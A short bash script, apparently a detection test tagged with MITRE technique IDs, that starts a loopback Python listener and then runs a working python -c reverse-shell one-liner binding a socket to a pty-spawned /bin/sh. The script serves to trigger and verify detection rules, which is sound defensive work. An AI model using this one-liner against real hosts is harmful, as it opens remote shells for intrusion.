#!/bin/bash
# A python -c reverse shell to a loopback listener: the socket becomes stdin, stdout and stderr
# of a shell on a pty, which runs `id` for the listener and exits.
# technique: T1059.006 T1059.004
# expect: python-shell-one-liner reverse-shell-socket-dup
set -eu
cat > "$TPY_WORK/listener.py" <<'PY'
import socket
import sys

server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], flush=True)
server.settimeout(30)
conn, _ = server.accept()
conn.sendall(b"id; exit\n")
conn.settimeout(10)
out = b""
while chunk := conn.recv(4096):
    out += chunk
sys.stderr.write(out.decode(errors="replace"))
PY
coproc LISTENER { /usr/bin/python3 "$TPY_WORK/listener.py"; }
listener=$LISTENER_PID
read -r port <&"${LISTENER[0]}"
timeout 30 /usr/bin/python3 -c "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
wait "$listener" 2>/dev/null || true
